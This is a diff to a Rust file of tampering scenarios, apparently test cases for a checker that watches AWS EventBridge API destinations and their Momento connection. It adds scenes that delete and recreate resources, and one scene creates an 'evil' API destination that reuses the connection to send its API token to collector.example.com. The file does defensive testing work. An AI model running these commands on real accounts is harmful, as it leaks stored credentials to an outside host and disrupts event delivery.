@@ -9,7 +9,7 @@ const DESTINATIONS: [&str; 4] = [
     "destination TopicPublishDestination",
 ];
 
-pub(super) const SCENES: [Broken; 9] = [
+pub(super) const SCENES: [Broken; 13] = [
     broken(
         "A destination calls somebody else",
         "Whoever is there receives the token with the next event. The token is changed after the destination was \
@@ -78,6 +78,38 @@ pub(super) const SCENES: [Broken; 9] = [
         &[
             "# ten minutes later",
             r#"aws events update-connection --name {MomentoConnection} --authorization-type API_KEY --auth-parameters '{"ApiKeyAuthParameters":{"ApiKeyName":"Authorization","ApiKeyValue":"another-key"}}'"#,
+        ],
+        &["connection"],
+    ),
+    broken(
+        "A destination is deleted and made again",
+        "It has its name and another ARN: rules and role name the old one, and no event is delivered.",
+        &[
+            "aws events delete-api-destination --name {CacheSetDestination}",
+            "aws events create-api-destination --name {CacheSetDestination} --connection-arn {ConnectionArn} --invocation-endpoint https://api.cache.cell-us-east-1-1.prod.a.momentohq.com/cache/* --http-method PUT --invocation-rate-limit-per-second 100",
+        ],
+        &["destination CacheSetDestination"],
+    ),
+    broken(
+        "A destination is gone",
+        "No event of its rules is delivered.",
+        &["aws events delete-api-destination --name {CacheSetDestination}"],
+        &["destination CacheSetDestination"],
+    ),
+    broken(
+        "The connection is deleted and made again",
+        "It has its name and the token of whoever made it.",
+        &[
+            "aws events delete-connection --name {MomentoConnection}",
+            r#"aws events create-connection --name {MomentoConnection} --authorization-type API_KEY --auth-parameters '{"ApiKeyAuthParameters":{"ApiKeyName":"Authorization","ApiKeyValue":"another-key"}}'"#,
+        ],
+        &DESTINATIONS,
+    ),
+    broken(
+        "Somebody's destination uses the connection",
+        "It is sent the token with every event of a rule of theirs. The token is changed once it is gone.",
+        &[
+            "aws events create-api-destination --name evil --connection-arn {ConnectionArn} --invocation-endpoint https://collector.example.com/* --http-method POST",
         ],
         &["connection"],
     ),
